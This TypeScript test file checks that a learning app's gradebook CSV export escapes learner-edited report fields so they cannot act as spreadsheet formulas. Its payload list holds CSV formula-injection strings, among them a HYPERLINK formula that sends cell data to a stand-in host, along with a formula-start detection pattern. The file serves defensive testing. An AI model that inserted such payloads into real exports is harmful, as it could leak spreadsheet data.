/**
 * `lantern report class` given reports a learner edited and re-signed with their own install's
 * key: whatever the learner typed must reach the teacher's spreadsheet as text, never as a formula.
 */
import fs from 'node:fs';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { beforeAll, describe, expect, test } from 'vitest';
import { openDatabase } from '../../../electron/core/store/database.ts';
import { SettingsStore } from '../../../electron/core/store/settings.ts';
import { Profiles } from '../../../electron/core/learner/profiles.ts';
import { ProgressStore } from '../../../electron/core/learner/progress-store.ts';
import { ModelRecords } from '../../../electron/core/learner/model-records.ts';
import { LearnerModel } from '../../../electron/core/learner/learner-model.ts';
import { buildProgressReport } from '../../../electron/core/reports/build-report.ts';
import { signReport } from '../../../electron/core/reports/signing.ts';
import { tempDir } from '../../unit/learner/fixtures.ts';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));

/** A learner's genuine report, then edited by them and re-signed with their own install's key. */
function forged(name: string, studentId: string, className: string) {
  const dir = tempDir('lantern-forger-');
  const { db } = openDatabase(path.join(dir, 'lantern.db'));
  const progress = new ProgressStore(db);
  const profiles = new Profiles(db, new SettingsStore(db));
  const model = new LearnerModel(progress, new ModelRecords(db), () => undefined);
  const id = profiles.create('Honest name').id;
  progress.insertAttempt({
    profileId: id,
    track: 'python',
    exercise: 'count-vowels',
    kind: 'check',
    status: 'pass',
    testsPassed: 4,
    testsTotal: 4,
    at: Date.now() - 600_000,
  });
  const built = buildProgressReport(
    { db, profiles, progress, model, courseOf: () => undefined, appVersion: '0.1.0' },
    id,
  );
  const { privateKey, publicKeyDer } = profiles.signingKey(id);
  const edited = {
    ...built,
    learner: { ...built.learner, name, studentId },
    class: { name: className },
  };
  const text = JSON.stringify(signReport(edited, privateKey, publicKeyDer));
  db.close();
  return text;
}

// Formulas as spreadsheets run them; the newline inside the cell is the part a naive check misses.
const PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"Grade")\nok', '+1+1\n', '-2+3\r\nx', '@SUM(1)\nx'];

let reports: string;
const data = tempDir('lantern-teacher-data-');

beforeAll(() => {
  reports = tempDir('lantern-reports-');
  PAYLOADS.forEach((p, i) => fs.writeFileSync(path.join(reports, `r${i}.json`), forged(p, `S900${i}`, p)));
  // A student ID may not hold a line break (control characters are refused on import), but it may
  // still start like a formula.
  fs.writeFileSync(path.join(reports, 'id.json'), forged('Id formula', '=1+2 S1', 'Class'));
});

function lantern(args: string[]) {
  const r = spawnSync(process.execPath, ['bin/lantern.js', 'report', 'class', reports, ...args], {
    cwd: ROOT,
    encoding: 'utf8',
    env: { ...process.env, LANTERN_DATA_DIR: data },
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('a learner’s text in the gradebook CSV is never a formula', () => {
  for (const format of ['generic', 'canvas', 'moodle'] as const)
    test(`${format}: every learner-controlled cell is escaped, newline or not`, () => {
      const out = path.join(tempDir(), `${format}.csv`);
      const r = lantern(['--format', format, '--out', out]);
      expect(r.code, r.err).toBe(0);
      const parsed = Papa.parse<string[]>(fs.readFileSync(out, 'utf8').slice(1), { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const [, ...rows] = parsed.data;
      const cells = rows.flat().filter((c) => typeof c === 'string');
      // The forged names are in the file (as text), so the check looks at them.
      expect(cells.filter((c) => c.includes('HYPERLINK')).length).toBeGreaterThan(0);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    });
});
